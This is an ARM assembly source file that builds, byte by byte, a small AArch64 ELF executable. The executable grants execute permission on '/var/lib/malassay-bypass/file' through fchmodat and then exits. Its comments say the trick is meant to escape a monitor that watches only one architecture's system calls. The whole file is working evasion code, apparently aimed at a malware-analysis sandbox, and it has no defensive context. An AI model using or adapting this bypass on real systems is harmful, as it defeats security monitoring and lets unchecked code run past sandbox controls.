@ A program for 64-bit ARM, as data for an assembler of 32 bits: gives the bypass' file execute
@ permission by that architecture's calls, and ends with 0 if it could. What watches the calls of one
@ architecture does not see it.
        .syntax unified
        .data
        .set    BASE, 0x400000
        .set    CODE, 64 + 56                   @ behind the headers
        .set    SIZE, CODE + 7 * 4 + 30
        .byte   0x7f, 'E', 'L', 'F', 2, 1, 1, 0
        .quad   0
        .short  2, 183                          @ executable, AArch64
        .word   1
        .quad   BASE + CODE, 64, 0
        .word   0
        .short  64, 56, 1, 64, 0, 0
        .word   1, 5                            @ to be loaded, read and executed
        .quad   0, BASE, BASE, SIZE, SIZE, 4096
        .word   0x92800c60                      @ mov x0, #AT_FDCWD
        .word   0x10000001 + (6 << 5)           @ adr x1, path
        .word   0xd2800002 + (0755 << 5)        @ mov x2, #0755
        .word   0xd2800008 + (53 << 5)          @ mov x8, #fchmodat
        .word   0xd4000001                      @ svc #0
        .word   0xd2800008 + (93 << 5)          @ mov x8, #exit
        .word   0xd4000001
        .asciz  "/var/lib/malassay-bypass/file"
